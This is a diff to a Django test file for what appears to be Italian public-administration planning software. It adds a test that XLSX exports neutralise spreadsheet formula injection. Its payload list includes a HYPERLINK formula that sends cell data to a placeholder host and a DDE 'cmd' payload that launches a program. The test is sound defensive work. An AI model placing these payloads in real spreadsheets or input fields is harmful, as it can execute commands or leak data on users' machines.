@@ -8,6 +8,7 @@ from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from openpyxl import load_workbook
 
+from openpiao.core.exchange import Audience
 from openpiao.documents.exchange import export_plan, import_plan
 from openpiao.plans.access import plan_url
 from openpiao.transparency import readiness
@@ -127,6 +128,38 @@ def test_oiv_grid_xlsx_has_the_template_columns_and_the_ente_values(secretary_cl
     assert prizes[header.index("Pubblicazione (da 0 a 2)")] == 2
     assert prizes[header.index("Aggiornamento (da 0 a 3)")] == 1
     assert prizes[-1] == "Dati 2023 pubblicati in ritardo"
+
+
+# Texts a spreadsheet program would run as a formula (OWASP, CSV/formula injection).
+FORMULA_TEXTS = [
+    '=HYPERLINK("http://example.invalid/?q="&A2,"clic")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_oiv_grid_xlsx_writes_formula_like_texts_as_text(secretary_client, casorate):
+    organization = casorate.organization
+    organization.name = FORMULA_TEXTS[1]
+    organization.save(update_fields=["name"])
+    rows = list(AttestationGrid.objects.get(plan=casorate).rows.order_by("pk"))
+    for row, text in zip(rows, FORMULA_TEXTS, strict=False):
+        row.notes = text
+        row.save(update_fields=["notes"])
+    response = secretary_client.get(url(casorate, "oiv_xlsx"))
+    sheet = load_workbook(BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    texts = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
+    for text in FORMULA_TEXTS:
+        assert texts[text].data_type == "s"
+    # quotePrefix: the program shows the text and keeps it text when the cell is edited.
+    assert all(texts[text].quotePrefix for text in FORMULA_TEXTS)
+    assert not texts["Codice fiscale"].quotePrefix
 
 
 @pytest.mark.parametrize(
@@ -284,14 +317,14 @@ def test_readiness_items(casorate):
 
 
 def test_plan_export_carries_section_23_and_imports_back(casorate):
-    document = export_plan(casorate)
+    document = export_plan(casorate, audience=Audience.BACKUP)
     assert len(document["risk_processes"]) == 14
     assert sum(len(m["monitoring"]) for m in document["risk_measures"]) == 19
     assert len(document["transparency_map"]) == 123 and len(document["access_requests"]) == 11
     assert document["oiv_grids"][0]["rows"][0]["published"] == 2
     document["organization"]["slug"] = "casorate-copia"
     copy = import_plan(document)
-    again = export_plan(copy)
+    again = export_plan(copy, audience=Audience.BACKUP)
     for key in (
         "risk_settings",
         "risk_processes",
